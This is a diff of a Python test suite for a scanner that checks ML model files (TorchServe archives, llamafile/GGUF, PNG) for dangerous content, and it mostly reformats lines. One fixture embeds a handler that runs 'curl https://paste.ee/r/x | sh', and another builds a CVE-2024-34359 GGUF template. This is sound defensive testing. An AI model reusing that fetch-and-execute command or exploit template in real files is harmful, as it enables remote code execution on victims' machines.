@@ -133,7 +133,9 @@ def test_torchserve_mar_benign_handler(tmp_path: Path) -> None:
 
 
 def test_torchserve_mar_malicious_handler_is_found_in_member(tmp_path: Path) -> None:
-    code = "import os\n\nclass H:\n    def initialize(self, ctx):\n        os.system('curl https://paste.ee/r/x | sh')\n"
+    code = (
+        "import os\n\nclass H:\n    def initialize(self, ctx):\n        os.system('curl https://paste.ee/r/x | sh')\n"
+    )
     result = scan_one(_mar(tmp_path, code))
     (finding,) = of_rule(result, "TXT003")
     assert finding.location.members == ("handler.py",)
@@ -159,7 +161,7 @@ def _gguf_bytes(tmp_path: Path, template: str) -> bytes:
 
 def test_llamafile_is_fmt002_and_weights_are_scanned(tmp_path: Path) -> None:
     path = tmp_path / "model.llamafile"
-    path.write_bytes(b"MZqFpD='\n\x00\x00" + b"#!/bin/sh\nexec ./ape \"$0\"\n" + b"\x00" * 256)
+    path.write_bytes(b"MZqFpD='\n\x00\x00" + b'#!/bin/sh\nexec ./ape "$0"\n' + b"\x00" * 256)
     with zipfile.ZipFile(path, "a", zipfile.ZIP_STORED) as z:
         z.writestr("weights.gguf", _gguf_bytes(tmp_path, ct.cve_2024_34359("/tmp/never-created")))
     result = scan_one(path)
@@ -175,7 +177,9 @@ def _png() -> bytes:
         return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
 
     ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
-    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\x00\x00")) + chunk(b"IEND", b"")
+    return (
+        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\x00\x00")) + chunk(b"IEND", b"")
+    )
 
 
 def test_plain_data_is_clean(tmp_path: Path) -> None:
